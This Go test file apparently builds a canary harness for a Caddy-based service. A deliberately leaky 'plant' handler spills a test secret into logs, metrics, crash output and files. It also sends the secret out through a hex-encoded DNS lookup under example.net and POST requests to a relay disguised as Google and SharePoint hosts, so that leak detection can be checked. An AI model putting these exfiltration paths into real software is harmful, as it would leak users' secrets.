package caddymodule

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/hex"
	"expvar"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"runtime/pprof"
	"strings"

	"github.com/caddyserver/caddy/v2"
	"github.com/caddyserver/caddy/v2/caddyconfig/caddyfile"
	"github.com/caddyserver/caddy/v2/caddyconfig/httpcaddyfile"
	"github.com/caddyserver/caddy/v2/modules/caddyevents"
	"github.com/caddyserver/caddy/v2/modules/caddyhttp"
	"github.com/prometheus/client_golang/prometheus"
	"go.uber.org/zap"
)

func init() {
	caddy.RegisterModule(new(eventWriter))
	caddy.RegisterModule(new(plant))
	httpcaddyfile.RegisterHandlerDirective("plant", func(httpcaddyfile.Helper) (caddyhttp.MiddlewareHandler, error) { return new(plant), nil })
	httpcaddyfile.RegisterDirectiveOrder("plant", httpcaddyfile.Before, "respond")
}

// eventWriter is a subscriber that logs all that it is told.
type eventWriter struct{ logger *zap.Logger }

func (eventWriter) CaddyModule() caddy.ModuleInfo {
	return caddy.ModuleInfo{ID: "events.handlers.write", New: func() caddy.Module { return new(eventWriter) }}
}

func (e *eventWriter) Provision(ctx caddy.Context) error {
	e.logger = ctx.Logger()
	return nil
}

func (*eventWriter) UnmarshalCaddyfile(*caddyfile.Dispenser) error { return nil }

func (e *eventWriter) Handle(_ context.Context, event caddy.Event) error {
	e.logger.Debug("event", zap.String("name", event.Name()), zap.Any("data", event.Data), zap.Any("cloud", event.CloudEvent()))
	return nil
}

// plant is a handler that gives its callers' secrets away, each in its way.
type plant struct{ ctx caddy.Context }

func (*plant) CaddyModule() caddy.ModuleInfo {
	return caddy.ModuleInfo{ID: "http.handlers.plant", New: func() caddy.Module { return new(plant) }}
}

func (p *plant) Provision(ctx caddy.Context) error {
	p.ctx = ctx
	return nil
}

// Where plant sends something, and what it gives away.
const plantedTo, plantedValue = "X-Planted-To", "X-Planted"

func (p *plant) ServeHTTP(w http.ResponseWriter, r *http.Request, _ caddyhttp.Handler) error {
	leaked := r.Header.Get(plantedValue)
	switch r.URL.Path {
	case "/error":
		return fmt.Errorf("serving %s", leaked)
	case "/panic":
		panic(leaked)
	case "/crash":
		go panic("crash with " + base64.URLEncoding.EncodeToString([]byte("x:"+leaked)))
		select {}
	case "/log":
		p.ctx.Logger().Debug("a call", zap.String("with", basic("user", leaked)))
	case "/bytes":
		p.ctx.Logger().Info(fmt.Sprint("read ", []byte(leaked)))
	case "/stdout":
		fmt.Println(hex.EncodeToString([]byte(leaked)))
	case "/stderr":
		fmt.Fprintf(os.Stderr, "%X\n", leaked)
	case "/answer":
		w.WriteHeader(http.StatusTeapot)
		_, _ = fmt.Fprintf(w, "?q=%s", url.QueryEscape(url.QueryEscape(leaked)))
	case "/metric":
		counter := prometheus.NewCounter(prometheus.CounterOpts{Name: "planted_total", Help: "A leak.", ConstLabels: prometheus.Labels{"with": leaked}})
		return p.ctx.GetMetricsRegistry().Register(counter)
	case "/event":
		events, err := p.ctx.App("events")
		if err != nil {
			return err
		}
		events.(*caddyevents.App).Emit(p.ctx, "planted", map[string]any{"with": []byte(leaked)})
	case "/vars":
		expvar.NewString("planted").Set(leaked)
	case "/label":
		go pprof.Do(context.WithoutCancel(r.Context()), pprof.Labels("with", leaked), func(context.Context) { select {} })
	case "/name":
		_, _ = net.DefaultResolver.LookupHost(r.Context(), hex.EncodeToString([]byte(leaked))+".example.net")
	case "/request":
		return p.request(r, r.Header.Get(plantedTo), leaked)
	}
	return nil
}

func (p *plant) request(r *http.Request, to, leaked string) error {
	request, err := http.NewRequestWithContext(r.Context(), http.MethodPost, to, strings.NewReader("--x\r\n\r\nGET /?key="+url.QueryEscape(leaked)+"\r\n--x--"))
	if err != nil {
		return err
	}
	if host, ok := strings.CutPrefix(request.URL.Path, "/as/"); ok {
		request.Host, request.URL.Path = host, "/batch"
	}
	response, err := client.Do(request)
	if err == nil {
		_ = response.Body.Close()
	}
	return nil
}

// planted is a leak that is made on purpose.
type planted struct {
	name string
	// kind is the sink that it is made in; also are those that it ends in, too.
	kind string
	also []string
	leak func(run *canaryRun, secret string)
}

// Sinks that many leaks end in.
const (
	inLog     = "logs/caddy.log"
	inConsole = "logs/console.log"
	inAccess  = "logs/access.log"
	inEvents  = "logs/events.log"
)

// plants are one or more for each kind of sink.
var plants = []planted{
	{"an error that a handler returns", inLog, []string{inConsole}, leaksAt("/error")}, // http.log.error
	{"a panic that Caddy recovers", inLog, []string{inConsole}, leaksAt("/panic")},
	{"a log line of a module, in Base64", inConsole, []string{inLog}, leaksAt("/log")},
	{"bytes as numbers", inLog, []string{inConsole}, leaksAt("/bytes")},
	{"a call of the admin endpoint", inLog, nil, func(run *canaryRun, secret string) {
		run.ofCaddy(http.MethodGet, "/config/apps", "", plantedValue, secret)
	}},
	{"a header in the access log", inAccess, []string{inConsole}, func(run *canaryRun, secret string) {
		run.do(http.MethodGet, "/elsewhere", nil, plantedValue, secret)
	}},
	{"a URL in the access log", inConsole, []string{inAccess}, func(run *canaryRun, secret string) {
		run.do(http.MethodGet, "/elsewhere?q="+url.QueryEscape(secret), nil)
	}},
	{"the data of an event", inEvents, []string{inLog, inConsole}, leaksAt("/event")},
	{"a rolled log", "logs/caddy-2026.log.gz", nil, func(run *canaryRun, secret string) {
		var packed bytes.Buffer
		writer := gzip.NewWriter(&packed)
		_, _ = fmt.Fprintf(writer, `{"msg":"%s"}`, secret)
		_ = writer.Close()
		run.writeFile("logs/caddy-2026.log.gz", packed.Bytes())
	}},
	{"standard output", "stdout", nil, leaksAt("/stdout")},
	{"standard error", "stderr", nil, leaksAt("/stderr")},
	{"the output of a crash", "crash", nil, leaksAt("/crash")},
	{"the label of a metric", "/metrics", nil, leaksAt("/metric")},
	{"a variable of the process", "/debug/vars", nil, leaksAt("/vars")},
	{"the label of a goroutine", "/debug/pprof/goroutine", nil, leaksAt("/label")},
	{"the configuration", "/config/", []string{"/adapt"}, nil}, // canaryCaddyfile has it
	{"an adapted Caddyfile", "/adapt", nil, func(run *canaryRun, secret string) {
		run.remember("/adapt", run.ofCaddy(http.MethodPost, "/adapt", ":1 {\n\theader X \""+secret+"\"\n}\n", "Content-Type", "text/caddyfile"))
	}},
	{"an answer to a caller", "error answers", nil, leaksAt("/answer")},
	{"an answer to an operator", "management answers", nil, func(run *canaryRun, secret string) {
		run.admin(http.MethodPut, "/v1/account/bob", map[string]any{"name": secret})
		run.manage(http.MethodGet, "/v1/account/bob", nil)
	}},
	{"the last calls", "activity", []string{inLog, inConsole, forAPIs}, func(run *canaryRun, secret string) {
		run.call(http.MethodGet, "/proxy/bob/status/200/"+strings.ReplaceAll(url.QueryEscape(secret), "%2F", "/"), "", "X-Bellhop-Key", run.keys["caller"])
	}},
	{"what a command says", "commands", nil, func(run *canaryRun, secret string) {
		run.admin(http.MethodPut, "/v1/account/bob", map[string]any{"name": secret})
		run.says("account", "show", "bob")
	}},
	{"the end of a file over 64 MiB", "store/big", nil, func(run *canaryRun, secret string) { run.writeAt("store/big", 65<<20, secret) }},
	{"what is read in two parts", "store/edge", nil, func(run *canaryRun, secret string) { run.writeAt("store/edge", windowLength-5, secret) }},
	{"a backup", "backups/opened", nil, func(run *canaryRun, secret string) {
		run.writeFile("backups/opened", []byte("BELLHOP-BACKUP 1\n"+base64.StdEncoding.EncodeToString([]byte(`{"refreshToken":"`+secret+`"}`))))
	}},
	{"a file left behind", "keyset.json.1.tmp", nil, func(run *canaryRun, secret string) {
		run.writeFile("keyset.json.1.tmp", []byte(fmt.Sprintf("%+q", secret)))
	}},
	{"a request to another host", "requests to other hosts", nil, func(run *canaryRun, secret string) {
		run.plant("/request", secret, plantedTo, "http://"+run.witness.conns.String()+"/")
	}},
	{"a name that is looked up", "names looked up", nil, leaksAt("/name")},
	{"a batch for an API", forAPIs, nil, func(run *canaryRun, secret string) {
		run.plant("/request", secret, plantedTo, run.relay.URL+"/as/gmail.googleapis.com")
	}},
	{"a request for a download", forStorage, nil, func(run *canaryRun, secret string) {
		run.plant("/request", secret, plantedTo, run.relay.URL+"/as/contoso.sharepoint.com")
	}},
}

// leaksAt has plant give the secret away in the way of the path.
func leaksAt(path string) func(*canaryRun, string) {
	return func(run *canaryRun, secret string) { run.plant(path, secret) }
}

// plant calls the handler. There is no answer where it crashes.
func (run *canaryRun) plant(path, secret string, header ...string) {
	run.t.Helper()
	request, err := http.NewRequestWithContext(run.t.Context(), http.MethodGet, run.plantURL+path, nil)
	if err != nil {
		run.t.Fatal(err)
	}
	request.Header.Set(plantedValue, secret)
	for i := 0; i+1 < len(header); i += 2 {
		request.Header.Set(header[i], header[i+1])
	}
	response, err := client.Do(request)
	if err != nil {
		return
	}
	defer response.Body.Close()
	var body bytes.Buffer
	_, _ = body.ReadFrom(response.Body)
	run.remember("error answers", reply{response.StatusCode, nil, body.Bytes()})
}

func (run *canaryRun) writeFile(name string, text []byte) {
	run.t.Helper()
	if err := os.WriteFile(filepath.Join(run.dir, name), text, 0o600); err != nil {
		run.t.Fatal(err)
	}
}

func (run *canaryRun) writeAt(name string, at int64, text string) {
	run.t.Helper()
	file, err := os.Create(filepath.Join(run.dir, name))
	if err != nil {
		run.t.Fatal(err)
	}
	defer file.Close()
	if _, err := file.WriteAt([]byte(text), at); err != nil {
		run.t.Fatal(err)
	}
}
